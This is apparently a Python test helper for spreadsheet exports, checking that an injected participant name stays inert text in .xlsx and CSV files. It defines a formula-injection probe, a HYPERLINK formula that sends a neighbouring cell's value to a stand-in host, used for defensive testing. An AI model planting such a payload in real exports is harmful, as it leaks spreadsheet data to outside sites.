"""Checks shared by every export's test: the probe's formula name comes out of a sheet as text, never live
(issue 26: a name written at /join as ``=HYPERLINK(...)`` became a live formula in the coordinator's .xlsx)."""
from __future__ import annotations

import csv
import io
import zipfile

#: The probe's name: a link that would send the sheet's next cell to another site when clicked.
FORMULA_NAME = '=HYPERLINK("http://x.example/?"&A2,"点我")'


def xlsx_cells_with(data: bytes, text: str) -> list:
    """Every cell (openpyxl's, not read-only, so types and styles show) whose value is ``text``, after
    checking that no sheet of the workbook holds a formula at all."""
    from openpyxl import load_workbook
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name) and b"<f " not in book.read(name), name
    found = [cell for sheet in load_workbook(io.BytesIO(data)).worksheets for row in sheet.iter_rows()
             for cell in row if cell.value == text]
    assert found, f"{text!r} is in no cell"
    for cell in found:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.data_type)
    return found


def csv_fields(data: bytes) -> list[str]:
    """Every field of a CSV export (UTF-8 with its mark)."""
    return [field for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for field in row]


def assert_neutral_csv(data: bytes, text: str) -> None:
    """``text`` is in the CSV only as OWASP's neutral form (a leading apostrophe), never bare."""
    fields = csv_fields(data)
    assert "'" + text in fields
    assert text not in fields
    assert not any(f.startswith(("=", "+", "-", "@", "\t", "\r")) for f in fields)
